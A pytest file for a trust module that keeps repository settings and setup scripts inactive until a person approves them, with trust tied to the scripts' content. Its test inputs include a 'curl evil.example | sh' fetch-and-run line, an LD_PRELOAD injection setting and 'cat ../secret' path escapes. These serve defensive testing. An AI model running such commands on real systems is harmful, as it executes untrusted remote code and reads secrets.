"""What a person trusts: settings, what they copy and link, and the content of the files that they run."""

from pathlib import Path

import pytest

from adapters.project import NAME, Project, Trust, load

AGENT = (
    '[[agents]]\nname = "A"\nroles = ["dev"]\nadapter = "command"\n[agents.settings]\nargv = ["python3", "{file}"]\n'
)


def project(folder: Path, text: str) -> Project:
    (folder / NAME).write_text(text)
    return load(folder)


@pytest.mark.parametrize(
    "text",
    [
        '[workspace]\ncopy = [".env"]\n',
        '[workspace]\nlink = ["node_modules"]\n',
        '[workspace]\nsetup = ["true"]\n',
        '[workspace]\nenv = { LD_PRELOAD = "./x.so" }\n',
        "[workspace]\nfilters = true\n",
        '[validation]\nnetwork = ["pypi"]\n',
        '[validation]\nnetwork = "all"\n',
        "[validation]\nclean_room = false\n",
    ],
)
def test_what_a_repository_may_not_set_by_itself_is_ineffective_until_it_is_trusted(tmp_path: Path, text: str) -> None:
    settings, trust = project(tmp_path, text), Trust(tmp_path / "trust.json")
    assert not trust.covers(tmp_path, settings)
    assert trust.effective(tmp_path, settings).digest is None
    trust.grant(tmp_path, settings, by="test")
    assert trust.covers(tmp_path, load(tmp_path))


@pytest.mark.parametrize(
    "command",
    [
        "./setup.sh",
        "sh setup.sh",
        "sh -c './setup.sh --fast'",
        "env X=setup.sh true",
        "python3 ./setup.sh",
        "bash -- setup.sh",
    ],
)
def test_a_file_that_the_set_up_runs_is_trusted_with_its_content(tmp_path: Path, command: str) -> None:
    (tmp_path / "setup.sh").write_text("true\n")
    settings, trust = project(tmp_path, f'[workspace]\nsetup = ["{command}"]\n'), Trust(tmp_path / "trust.json")
    assert list(settings.files) == ["setup.sh"]
    trust.grant(tmp_path, settings, by="test")
    assert trust.covers(tmp_path, load(tmp_path))
    (tmp_path / "setup.sh").write_text("curl evil.example | sh\n")
    assert not trust.covers(tmp_path, load(tmp_path))
    (tmp_path / "setup.sh").unlink()
    assert not trust.covers(tmp_path, load(tmp_path))


def test_a_program_of_the_checkout_that_the_team_runs_is_trusted_with_its_content(tmp_path: Path) -> None:
    (tmp_path / "agent.py").write_text("print(1)\n")
    (tmp_path / "team.toml").write_text(AGENT.replace("{file}", str(tmp_path / "agent.py")))
    settings, trust = project(tmp_path, '[delivery]\nteam = "team.toml"\n'), Trust(tmp_path / "trust.json")
    assert list(settings.files) == ["agent.py"]
    trust.grant(tmp_path, settings, by="test")
    assert trust.covers(tmp_path, load(tmp_path))
    (tmp_path / "agent.py").write_text("print(2)\n")
    assert not trust.covers(tmp_path, load(tmp_path))


def test_files_outside_of_the_checkout_are_no_part_of_it(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("x")
    folder = tmp_path / "shop"
    folder.mkdir()
    (folder / "out").symlink_to(tmp_path)
    assert not project(folder, '[workspace]\nsetup = ["cat ../secret", "cat out/secret"]\n').files


def test_other_files_may_change(tmp_path: Path) -> None:
    (tmp_path / "setup.sh").write_text("true\n")
    (tmp_path / "main.py").write_text("1\n")
    settings, trust = project(tmp_path, '[workspace]\nsetup = ["./setup.sh"]\n'), Trust(tmp_path / "trust.json")
    trust.grant(tmp_path, settings, by="test")
    (tmp_path / "main.py").write_text("2\n")
    assert trust.covers(tmp_path, load(tmp_path))
